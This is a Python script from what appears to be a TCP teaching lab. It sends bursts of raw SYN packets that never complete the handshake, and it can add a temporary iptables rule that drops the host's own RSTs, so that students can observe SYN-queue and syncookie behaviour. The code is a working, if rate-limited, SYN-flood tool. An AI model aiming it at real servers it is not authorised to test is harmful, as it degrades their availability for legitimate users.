#!/usr/bin/env python3
"""tcplab SYN sender: send TCP SYNs to a listener and never complete the handshake.

For the SYN-queue and syncookie lessons. SYNs leave from this host's own address (never a spoofed or
outside one), from --count different source ports at --rate per second. Each SYN-ACK the server sends
back would make this host's kernel answer with RST (no socket owns those ports), which would free the
server's SYN queue at once; --drop-rsts adds a firewall rule inside this host that drops those RSTs,
and removes it at exit. The source ports lie below this host's ephemeral range
(net.ipv4.ip_local_port_range), so a real client on the same host never picks a port a flood SYN used:
it would share that half-open connection's 4-tuple, get its SYN-ACK, and its answering RST would fall to
the rule. Needs root (a raw socket) inside the host.

Events: rst-rule, sent (every --report SYNs), summary.

Example:  python3 guest/synflood.py 10.0.0.1:9000 --count 2000 --rate 2000 --drop-rsts
"""
import argparse
import random
import socket
import struct
import subprocess
import sys
import time

import kernel
from kernel import Events, Stop


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_segment(src_ip, dst_ip, sport, dport, seq):
    """A 24-byte TCP SYN (with an MSS option) whose checksum covers the IPv4 pseudo-header."""
    options = struct.pack("!BBH", 2, 4, 1460)
    offset_flags = ((5 + len(options) // 4) << 12) | 0x002
    header = struct.pack("!HHIIHHHH", sport, dport, seq, 0, offset_flags, 64240, 0, 0) + options
    pseudo = socket.inet_aton(src_ip) + socket.inet_aton(dst_ip) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    csum = checksum(pseudo + header)
    return header[:16] + struct.pack("!H", csum) + header[18:]


def local_address_towards(dst_ip):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((dst_ip, 9))
        return probe.getsockname()[0]


RST_RULE = ["OUTPUT", "-p", "tcp", "--tcp-flags", "RST", "RST", "-d", "{dst}", "--dport", "{port}",
            "--sport", "{first}:{last}", "-j", "DROP"]


def rst_rule(action, dst, port, ports):
    rule = [part.format(dst=dst, port=port, first=ports.start, last=ports.stop - 1) for part in RST_RULE]
    subprocess.run(["iptables", action, *rule], check=True, capture_output=True, text=True)


FIRST_PORT = 1024           # source ports: from here up to the host's ephemeral range, one per SYN
MAX_COUNT = 32768 - FIRST_PORT      # with the kernel's default ip_local_port_range (32768 60999)


def flood_ports():
    """The source ports below this host's ephemeral range (which a real client's connect() draws from)."""
    with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
        low = int(f.read().split()[0])
    return range(FIRST_PORT, low)


def build_parser():
    p = argparse.ArgumentParser(prog="synflood.py", description=__doc__.split("\n\n")[0],
                                epilog=__doc__.split("\n\n", 1)[1], formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("server", type=kernel.HOSTPORT, help="HOST:PORT of the listener ({h1}:9000 in a scenario)")
    p.add_argument("--count", type=kernel.integer(1, MAX_COUNT, "SYN count", "SYNs, one per source port"),
                   default=1000, help="SYNs to send (one per source port)")
    p.add_argument("--rate", type=kernel.real(0.1, 1e6, "SYN rate", "SYNs per second"), default=1000.0, help="SYNs per second")
    p.add_argument("--drop-rsts", action="store_true", help="drop this host's RSTs to the server while running")
    p.add_argument("--report", type=kernel.integer(1, 100000, "report", "SYNs per event"), default=500,
                   help="an event every N SYNs")
    p.add_argument("--hold", type=kernel.SECONDS, default=0.0, help="keep the RST rule SEC after the last SYN")
    return p


def parse_args(argv=None):
    return build_parser().parse_args(argv)


# What the SYN sender prints: the lab derives its event schema from this, docs/guests.md lists it.
EVENTS = {
    "rst-rule": {"doc": "the firewall rule dropping this host's RSTs (--drop-rsts)", "modes": None, "fields": {
        "action": ["str", "added or removed"],
        "dst": ["str", "the server's address"],
        "port": ["int", "the server's port"],
        "sports": ["str", "the source ports of the SYNs, below the ephemeral range: only RSTs from them are dropped"]}},
    "sent": {"doc": "every --report SYNs", "modes": None, "fields": {
        "count": ["int", "SYNs sent so far"],
        "elapsed_s": ["float", "seconds since the first"]}},
    "error": kernel.ERROR_EVENT,
    "summary": {"doc": "the last event, at exit", "modes": None, "fields": {
        "reason": ["str", "done, SIGTERM, SIGINT or error"],
        "sent": ["int", "SYNs sent"],
        "source": ["str", "this host's address, the SYNs' source"],
        "target": ["str", "ADDR:PORT of the listener"],
        **kernel.SUMMARY_ERROR_FIELDS}},
}


def main(argv=None):
    args = parse_args(argv)
    ev = Events("synflood")
    kernel.stop_on_signals()
    dst, port = kernel.parse_hostport(args.server)
    src, sent, reason = None, 0, "done"
    rule = False
    try:
        src = local_address_towards(dst)       # ENETUNREACH when this host has no route there
        ports = flood_ports()
        if args.count > len(ports):
            raise ValueError(f"--count {args.count}: only {len(ports)} source ports lie below this host's "
                             f"ephemeral range (net.ipv4.ip_local_port_range starts at {ports.stop})")
        if args.drop_rsts:
            rst_rule("-A", dst, port, ports)
            rule = True
            ev.emit("rst-rule", action="added", dst=dst, port=port, sports=f"{ports.start}-{ports.stop - 1}")
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        start = time.monotonic()
        for i, sport in enumerate(random.sample(ports, args.count)):
            due = start + i / args.rate
            delay = due - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            raw.sendto(syn_segment(src, dst, sport, port, random.getrandbits(32)), (dst, 0))
            sent += 1
            if sent % args.report == 0:
                ev.emit("sent", count=sent, elapsed_s=round(time.monotonic() - start, 3))
        if args.hold:
            time.sleep(args.hold)
    except Stop as e:
        reason = str(e)
    except OSError as e:
        ev.syscall("error", "socket", -1, err=e, message=str(e))
        reason = "error"
    except (subprocess.CalledProcessError, ValueError) as e:
        ev.emit("error", message=str(getattr(e, "stderr", None) or e))
        ev.errors += 1
        reason = "error"
    finally:
        if rule:
            rst_rule("-D", dst, port, ports)
            ev.emit("rst-rule", action="removed", dst=dst, port=port, sports=f"{ports.start}-{ports.stop - 1}")
    ev.summary(reason=reason, sent=sent, source=src, target=f"{dst}:{port}")
    return 0 if reason != "error" else 1


if __name__ == "__main__":
    sys.exit(main())
